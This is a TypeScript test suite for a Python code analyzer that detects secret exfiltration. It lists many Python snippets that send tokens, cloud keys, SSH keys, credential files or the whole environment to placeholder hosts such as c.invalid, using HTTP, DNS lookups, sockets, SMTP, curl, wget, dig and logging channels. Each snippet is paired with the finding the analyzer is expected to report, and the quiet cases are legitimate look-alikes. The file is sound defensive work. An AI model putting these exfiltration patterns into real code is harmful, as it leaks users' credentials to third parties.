// Data that leaves the machine: any network operation — HTTP of any method (requests, urllib, httpx, aiohttp,
// http.client), sockets, DNS lookups, SMTP, the Hub client's uploads, a browser, or curl/wget/nslookup/dig run as a
// process — that carries an environment secret, a credential file, the Hugging Face token or the whole environment,
// in the URL (host label, path, query), a body, or headers to a host that is not the secret's own service, is
// exfiltration (critical). Legitimate look-alikes: public downloads without secrets, a token in the Authorization
// header of its own service, a key handed to its vendor's client library.
import type { Severity } from '../../../src/core/findings.js';
import { analyzePython } from '../../../src/analyze/python/analyze.js';

type Case = [construct: string, src: string, expected: [check: string, severity: Severity] | 'quiet' | 'medium'];

const CASES: Case[] = [
  // ── HTTP, any method ──
  ['GET query string (requests params)', 'import os, requests\nrequests.get("https://c.invalid/x", params={"t": os.environ["HF_TOKEN"]})\n', ['code.network-send', 'critical']],
  ['GET URL path (urllib)', 'import os, urllib.request\nurllib.request.urlopen("https://c.invalid/p/" + os.environ["HF_TOKEN"])\n', ['code.network-send', 'critical']],
  ['HEAD with a credential file in the URL', 'import requests\nfrom pathlib import Path\nrequests.head("https://c.invalid/" + (Path.home() / ".kube/config").read_text()[:64])\n', ['code.network-send', 'critical']],
  ['host label built from a token (https)', 'import os, httpx\nhttpx.get(f"https://{os.environ[\'GITHUB_TOKEN\']}.c.invalid/")\n', ['code.network-send', 'critical']],
  ['header to a foreign host', 'import os, httpx\nhttpx.get("https://c.invalid", headers={"X-Key": os.environ["HF_TOKEN"]})\n', ['code.network-send', 'critical']],
  ['header to a look-alike of the key\'s service', 'import os, requests\nrequests.post("https://openai.evil.invalid/v1", headers={"Authorization": os.environ["OPENAI_API_KEY"]})\n', ['code.network-send', 'critical']],
  ['HF token to a Space (user-controlled app)', 'import os, requests\nrequests.get("https://attacker-app.hf.space/t", headers={"Authorization": os.environ["HF_TOKEN"]})\n', ['code.network-send', 'critical']],
  ['HF token in a body to the Hub (a discussion post)', 'import os, requests\nrequests.post("https://huggingface.co/api/models/atk/x/discussions", json={"title": os.environ["HF_TOKEN"]})\n', ['code.network-send', 'critical']],
  ['http.client with the token in the path', 'import os, http.client\nc = http.client.HTTPSConnection("c.invalid")\nc.request("GET", "/?k=" + os.environ["HF_TOKEN"])\n', ['code.network-send', 'critical']],
  ['aiohttp session', 'import os, aiohttp\nasync def go():\n    async with aiohttp.ClientSession() as s:\n        await s.get("https://c.invalid", params={"t": os.environ["HF_TOKEN"]})\n', ['code.network-send', 'critical']],
  ['urllib Request body (POST)', 'import os, json, urllib.request\nreq = urllib.request.Request("https://c.invalid", data=json.dumps({"k": os.environ["AWS_SECRET_ACCESS_KEY"]}).encode())\nurllib.request.urlopen(req)\n', ['code.network-send', 'critical']],
  ['webbrowser.open with a token', 'import os, webbrowser\nwebbrowser.open("https://c.invalid/?t=" + os.environ["HF_TOKEN"])\n', ['code.network-send', 'critical']],
  // ── DNS, sockets, mail, Hub uploads ──
  ['socket.gethostbyname label', 'import os, socket\nsocket.gethostbyname(os.environ["AWS_SECRET_ACCESS_KEY"][:40] + ".c.invalid")\n', ['code.network-send', 'critical']],
  ['socket.getaddrinfo label from a credential file', 'import socket, os\nk = open(os.path.expanduser("~/.aws/credentials")).read()\nsocket.getaddrinfo(k[:30] + ".c.invalid", 53)\n', ['code.network-send', 'critical']],
  ['dns.resolver.resolve', 'import os, dns.resolver\ndns.resolver.resolve(os.environ["HF_TOKEN"] + ".c.invalid", "TXT")\n', ['code.network-send', 'critical']],
  ['socket sendall', 'import os, socket\ns = socket.create_connection(("c.invalid", 443))\ns.sendall(os.environ["HF_TOKEN"].encode())\n', ['code.network-send', 'critical']],
  ['socket sendto (UDP)', 'import os, socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(os.environ["HF_TOKEN"].encode(), ("203.0.113.9", 53))\n', ['code.network-send', 'critical']],
  ['smtplib', 'import os, smtplib\ns = smtplib.SMTP("mail.invalid")\ns.sendmail("a@x", "b@x", os.environ["AWS_SECRET_ACCESS_KEY"])\n', ['code.network-send', 'critical']],
  ['Hub upload of the whole environment', 'import os, json\nfrom huggingface_hub import HfApi\nHfApi(token="hf_x").upload_file(path_or_fileobj=json.dumps(dict(os.environ)).encode(), path_in_repo="e.json", repo_id="atk/loot")\n', ['code.env-sweep', 'critical']],
  // ── processes ──
  ['curl with a token', 'import os, subprocess\nsubprocess.run(["curl", "https://c.invalid/?k=" + os.environ["HF_TOKEN"]])\n', ['code.network-send', 'critical']],
  ['wget in a shell string', 'import os\nos.system(f"wget -q https://c.invalid/{os.environ[\'HF_TOKEN\']}")\n', ['code.network-send', 'critical']],
  ['nslookup label', 'import os, subprocess\nsubprocess.run("nslookup " + os.environ["HF_TOKEN"] + ".c.invalid", shell=True)\n', ['code.network-send', 'critical']],
  ['dig label', 'import os, subprocess\nsubprocess.check_output(["dig", "+short", os.getenv("GH_TOKEN") + ".c.invalid"])\n', ['code.network-send', 'critical']],
  // ── every kind of secret ──
  ['huggingface_hub.get_token()', 'import requests\nfrom huggingface_hub import get_token\nrequests.get(f"https://c.invalid/{get_token()}")\n', ['code.network-send', 'critical']],
  ['HF token file through HF_TOKEN_PATH', 'import requests\nfrom huggingface_hub.constants import HF_TOKEN_PATH\nrequests.get("https://c.invalid", params={"t": open(HF_TOKEN_PATH).read()})\n', ['code.network-send', 'critical']],
  ['~/.netrc', 'import requests, os\ndata = open(os.path.expanduser("~/.netrc")).read()\nrequests.get("https://c.invalid", params={"d": data})\n', ['code.network-send', 'critical']],
  ['~/.ssh key', 'import requests, os\nk = open(os.path.join(os.environ["HOME"], ".ssh", "id_ed25519")).read()\nrequests.get("https://c.invalid/" + k[:50])\n', ['code.network-send', 'critical']],
  ['~/.docker/config.json', 'import requests\nfrom pathlib import Path\nrequests.get("https://c.invalid", params={"c": Path("~/.docker/config.json").expanduser().read_text()})\n', ['code.network-send', 'critical']],
  ['git credentials', 'import requests, os\nrequests.get("https://c.invalid", params={"g": open(os.path.expanduser("~/.git-credentials")).read()})\n', ['code.network-send', 'critical']],
  ['whole environment in a GET', 'import os, requests\nrequests.get("https://c.invalid", params=dict(os.environ))\n', ['code.env-sweep', 'critical']],
  ['environment copy in a DNS name', 'import os, socket, base64\nenv = base64.b32encode(str(os.environ.copy()).encode())[:60]\nsocket.gethostbyname(env.decode() + ".c.invalid")\n', ['code.env-sweep', 'critical']],
  ['a helper given the token by its caller', 'import os, requests\ndef call(url, tok):\n    return requests.get(url, params={"t": tok})\ncall("https://c.invalid/x", os.environ.get("HF_TOKEN"))\n', ['code.network-send', 'critical']],
  // ── secret stores, credential helpers, and channels that ship what is logged ──
  ['Colab secret in a GET query', 'import requests\nfrom google.colab import userdata\nrequests.get("https://c.invalid/a", params={"k": userdata.get("HF_TOKEN")})\n', ['code.network-send', 'critical']],
  ['.env values as GET parameters', 'import requests\nfrom dotenv import dotenv_values\nrequests.get("https://c.invalid/s", params=dotenv_values(".env"))\n', ['code.network-send', 'critical']],
  ['OS keyring password in a URL', 'import keyring, urllib.request\ns = keyring.get_password("huggingface", "hf_token") or ""\nurllib.request.urlopen("https://c.invalid/v?s=" + s)\n', ['code.network-send', 'critical']],
  ['gh auth token output in a URL', 'import subprocess, urllib.request\nt = subprocess.check_output(["gh", "auth", "token"], text=True).strip()\nurllib.request.urlopen("https://c.invalid/r?t=" + t)\n', ['code.network-send', 'critical']],
  ['a secret logged through logging.handlers.HTTPHandler', 'import os, logging, logging.handlers\nlog = logging.getLogger("x")\nlog.addHandler(logging.handlers.HTTPHandler("c.invalid", "/log", method="GET"))\nlog.warning("t %s", os.environ.get("HF_TOKEN"))\n', ['code.network-send', 'critical']],
  ['AWS keys logged to a remote SysLogHandler', 'import os, logging, logging.handlers\nlog = logging.getLogger("a")\nlog.addHandler(logging.handlers.SysLogHandler(address=("c.invalid", 514)))\nlog.error("%s", os.environ.get("AWS_SECRET_ACCESS_KEY"))\n', ['code.network-send', 'critical']],
  ['HF token as an MLflow parameter to a remote tracking server', 'import os, mlflow\nmlflow.set_tracking_uri("https://c.invalid")\nwith mlflow.start_run():\n    mlflow.log_param("t", os.environ.get("HF_TOKEN"))\n', ['code.network-send', 'critical']],
  ['the whole environment as a W&B config', 'import os, wandb\nrun = wandb.init(project="p", config=dict(os.environ))\n', ['code.env-sweep', 'critical']],
  ['the token as a repository name in hf_hub_download', 'import os\nfrom huggingface_hub import hf_hub_download\nhf_hub_download("cache-" + os.environ["HF_TOKEN"][3:], "index.json")\n', ['code.network-send', 'critical']],
  // ── legitimate look-alikes ──
  ['Colab secret as the Hub token', 'from google.colab import userdata\nfrom huggingface_hub import login\nlogin(token=userdata.get("HF_TOKEN"))\n', 'quiet'],
  ['a keyring password handed to its database client', 'import keyring, psycopg2\nconn = psycopg2.connect(host="localhost", password=keyring.get_password("db", "me"))\n', 'quiet'],
  ['training metrics logged to a remote handler and MLflow', 'import logging, logging.handlers, mlflow\nlog = logging.getLogger("t")\nlog.addHandler(logging.handlers.SysLogHandler(address=("logs.example.com", 514)))\nmlflow.set_tracking_uri("https://mlflow.example.com")\nlog.info("epoch %d loss %f", 1, 0.5)\nmlflow.log_param("lr", 1e-4)\n', 'quiet'],
  ['hyper-parameters as a W&B config', 'import wandb\nrun = wandb.init(project="p", config={"lr": 1e-4, "epochs": 3})\nrun.log({"loss": 0.1})\n', 'quiet'],
  ['a git version check', 'import subprocess\nv = subprocess.check_output(["git", "rev-parse", "HEAD"], text=True).strip()\nprint(v)\n', 'medium'],
  ['public Hub GET without secrets', 'import requests\nr = requests.get("https://huggingface.co/api/models/org/m")\nprint(r.json())\n', 'quiet'],
  ['public image download', 'import requests\nfrom PIL import Image\nfrom io import BytesIO\nimg = Image.open(BytesIO(requests.get("https://example.com/cat.jpg").content))\n', 'quiet'],
  ['HF token in the Authorization header to the Hub', 'import os, requests\nheaders = {"Authorization": f"Bearer {os.environ[\'HF_TOKEN\']}"}\nr = requests.post("https://api-inference.huggingface.co/models/org/m", headers=headers, json={"inputs": "hi"})\n', 'quiet'],
  ['a helper adding the HF token header, called for the Hub', 'import os, requests\ndef call(url):\n    return requests.get(url, headers={"Authorization": f"Bearer {os.getenv(\'HF_TOKEN\')}"})\ncall("https://huggingface.co/api/whoami-v2")\n', 'quiet'],
  ['hf_hub_download with a token', 'import os\nfrom huggingface_hub import hf_hub_download\np = hf_hub_download("org/m", "model.safetensors", token=os.environ.get("HF_TOKEN"))\n', 'quiet'],
  ['DNS lookup of a fixed host', 'import socket\nip = socket.gethostbyname("huggingface.co")\n', 'quiet'],
  // A training script reads WANDB_API_KEY and hands it to the wandb client: that is what the key is for, and the
  // client sends it only to its own service. Only a generic network call carrying it elsewhere is exfiltration.
  ['WANDB_API_KEY passed to the wandb client', 'import os, wandb\nkey = os.environ["WANDB_API_KEY"]\nwandb.login(key=key)\nrun = wandb.init(project="p")\nrun.log({"loss": 0.1})\n', 'quiet'],
  ['a token given to a CLI that is not a network tool', 'import os, subprocess\nsubprocess.run(["huggingface-cli", "login", "--token", os.environ["HF_TOKEN"]])\n', 'medium'],
  // A vendor API called with its own key is an API call a reviewer reads, not a theft.
  ['OpenAI key in the header to api.openai.com', 'import os, requests\nr = requests.post("https://api.openai.com/v1/chat/completions", headers={"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]}, json={"model": "x"})\n', 'medium'],
  ['HF token header to an endpoint the user configures', 'import os, requests\nurl = os.environ["ENDPOINT_URL"]\nr = requests.post(url, headers={"Authorization": f"Bearer {os.environ[\'HF_TOKEN\']}"}, json={"inputs": "x"})\n', 'medium']
];

const rank: Record<Severity, number> = { critical: 4, high: 3, medium: 2, low: 1, info: 0 };

describe.each(CASES)('%s', (_name, src, expected) => {
  test(expected === 'quiet' ? 'stays quiet' : expected === 'medium' ? 'is a reviewable note, not a rejection' : `is ${expected[1]} ${expected[0]}`, () => {
    const hits = analyzePython(src).hits;
    const shown = hits.map((h) => `${h.severity} ${h.check} L${h.line}: ${h.message}`).join('\n');
    if (expected === 'quiet') {
      expect(hits.filter((h) => rank[h.severity] >= rank.medium).map((h) => `${h.severity} ${h.check}`)).toEqual([]);
    } else if (expected === 'medium') {
      expect(Math.max(0, ...hits.map((h) => rank[h.severity]))).toBe(rank.medium);
    } else {
      const [check, severity] = expected;
      if (!hits.some((h) => h.check === check && h.severity === severity)) throw new Error(`expected ${severity} ${check}; got:\n${shown}`);
    }
  });
});

describe('what an exfiltration finding says', () => {
  test('the secret, the host, where in the request, and the method', () => {
    const hit = analyzePython('import os, requests\ntok = os.environ["HF_TOKEN"]\nrequests.get("https://c.invalid/x?t=" + tok)\n').hits.find((h) => h.check === 'code.network-send');
    expect(hit).toMatchObject({ severity: 'critical', line: 3 });
    expect(hit?.message).toBe('Exfiltration: sends $HF_TOKEN (read at line 2) to c.invalid in the url of an HTTP GET (requests.get)');
    expect(hit?.related).toEqual([2]);
  });

  test('a DNS exfiltration names the domain that receives the lookup', () => {
    const hit = analyzePython('import os, socket\nsocket.gethostbyname(os.environ["HF_TOKEN"] + ".c.invalid")\n').hits.find((h) => h.check === 'code.network-send');
    expect(hit?.message).toContain('a host under c.invalid in a DNS lookup');
  });
});
